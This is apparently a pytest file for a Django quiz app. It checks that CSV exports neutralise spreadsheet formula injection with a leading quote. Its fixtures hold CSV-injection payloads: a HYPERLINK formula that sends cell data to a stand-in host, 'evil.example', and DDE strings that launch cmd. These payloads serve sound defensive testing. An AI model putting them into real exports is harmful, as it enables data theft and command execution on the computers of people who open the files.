"""CSV exports open safely in a spreadsheet: no cell from users or authors runs as a formula."""

import csv
import io
from datetime import UTC

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from quizzes.exports import Cells, neutralise
from quizzes.models import Choice, Learner, Question
from tests.factories import load, minimal_tree, topic_text
from tests.quizzes.results_data import answer, build

pytestmark = pytest.mark.django_db

PROMPT = '=HYPERLINK("https://evil.example/?"&A1, "Open")'
RIGHT = "+cmd|' /C calc'!A0"
WRONG = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = f"""
### {PROMPT}
<!-- id: hostile -->

- [x] {RIGHT}
- [ ] {WRONG}
- [ ] -2+3

Why.
"""


@pytest.fixture
def staff_client(client):
    # An admin: sees every course (instructors are tested in test_instructors.py).
    client.force_login(
        get_user_model().objects.create_user("staff", is_staff=True, is_superuser=True)
    )
    return client


@pytest.fixture
def hostile(tmp_path):
    """A question and a learner whose texts are spreadsheet formulas, with one answer each."""
    load(minimal_tree(tmp_path / "content", {"01-a.md": topic_text(questions=HOSTILE)}))
    # Django's username validator allows @, + and -: a learner can sign up as a formula.
    user = get_user_model().objects.create_user("-1+cmd|' /C calc'!A0")
    answer(Learner.objects.create(user=user), "hostile", WRONG, first=True)
    answer(Learner.objects.create(), "hostile", RIGHT, first=True)


def read_csv(client, name: str) -> list[dict[str, str]]:
    response = client.get(reverse(f"results:{name}", args=["course"]))
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_attempts_csv_neutralises_usernames_and_picked_choices(staff_client, hostile):
    """A username or choice text starting with - + @ is prefixed with a quote."""
    rows = read_csv(staff_client, "attempts-csv")
    assert [(r["username"], r["picked"]) for r in rows] == [
        ("'-1+cmd|' /C calc'!A0", "'" + WRONG),
        ("", "'" + RIGHT),
    ]


def test_questions_csv_neutralises_prompts_and_pick_rates(staff_client, hostile):
    """A prompt starting with = and choice texts starting with + are prefixed with a quote."""
    (row,) = read_csv(staff_client, "questions-csv")
    assert row["prompt"] == "'" + PROMPT
    assert row["pick_rates"].startswith(f"'{RIGHT}=0.500 | ")


def test_computed_numbers_stay_numbers(staff_client, tmp_path):
    """A negative discrimination is written as the number -1.000, not as quoted text."""
    build(tmp_path)
    rows = {r["question"]: r for r in read_csv(staff_client, "questions-csv")}
    assert (rows["q2"]["discrimination"], rows["q2"]["facility"]) == ("-1.000", "0.400")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\0"])
def test_every_formula_start_is_neutralised(start):
    """OWASP's list of formula starts (and ASVS's NUL) all get the quote prefix."""
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_plain_text_and_numbers_are_left_alone():
    """Ordinary text, empty cells and numbers pass through unchanged."""
    assert [neutralise(v) for v in ("alice", "", "a=b", 3, -2)] == ["alice", "", "a=b", 3, -2]


def test_attempts_csv_times_are_utc_iso_8601_to_the_millisecond(staff_client, hostile):
    """Formatted by the database, the same on SQLite and PostgreSQL."""
    from quizzes.models import Attempt

    rows = read_csv(staff_client, "attempts-csv")
    expected = {
        str(a.pk): a.created_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"
        for a in Attempt.objects.all()
    }
    assert {row["attempt"]: row["answered_at"] for row in rows} == expected


def test_attempts_csv_sends_its_header_before_reading_any_attempt(
    staff_client, hostile, django_assert_max_num_queries
):
    """The download starts at once, however many attempts follow."""
    response = staff_client.get(reverse("results:attempts-csv", args=["course"]))
    pieces = iter(response.streaming_content)
    with django_assert_max_num_queries(0):
        first = next(pieces)
    assert first.decode().startswith("attempt,learner,username,")
    assert first.count(b"\n") == 1
    assert b"".join(pieces).count(b"\n") == 2


MANY = """
### Which two? A "quoted", tricky one
<!-- id: many -->

- [x] First, with a comma
- [ ] Said "no"
- [x] Last
  line

Why.
"""


@pytest.fixture
def many(tmp_path):
    """A question with several right choices, answered by picking them in reverse order."""
    load(minimal_tree(tmp_path / "content", {"01-a.md": topic_text(questions=MANY)}))
    question = Question.objects.get(key="many")
    attempt = answer(Learner.objects.create(), "many", 'Said "no"', first=True)
    attempt.choices.set(reversed(question.choices.filter(is_correct=True)))


def test_attempts_csv_lists_several_picks_in_the_questions_order(staff_client, many):
    """Picks are written in the order the question lists its choices, one cell."""
    (row,) = read_csv(staff_client, "attempts-csv")
    assert row["picked"] == "First, with a comma | Last"


def test_attempts_csv_keeps_commas_and_quotes_inside_their_cell(staff_client, many):
    """A spreadsheet reads back every cell as written, quotes and commas included."""
    Choice.objects.filter(text="Last").update(text='Last, "really"\nso')
    (row,) = read_csv(staff_client, "attempts-csv")
    assert row["picked"] == 'First, with a comma | Last, "really"\nso'
    assert (row["question"], row["first_try"], row["correct"]) == ("many", "1", "0")


@given(st.lists(st.text(max_size=12), min_size=1, max_size=6))
def test_a_cell_is_what_the_csv_module_writes_for_the_neutralised_text(texts):
    """Cells made once per text join into the line csv.writer writes for those texts."""
    buffer = io.StringIO()
    # A leading number, as in every attempts line (a lone empty cell is written '""').
    csv.writer(buffer).writerow([1, *(neutralise(text) for text in texts)])
    cells = Cells()
    assert ",".join(["1", *(cells(text) for text in texts)]) + "\r\n" == buffer.getvalue()
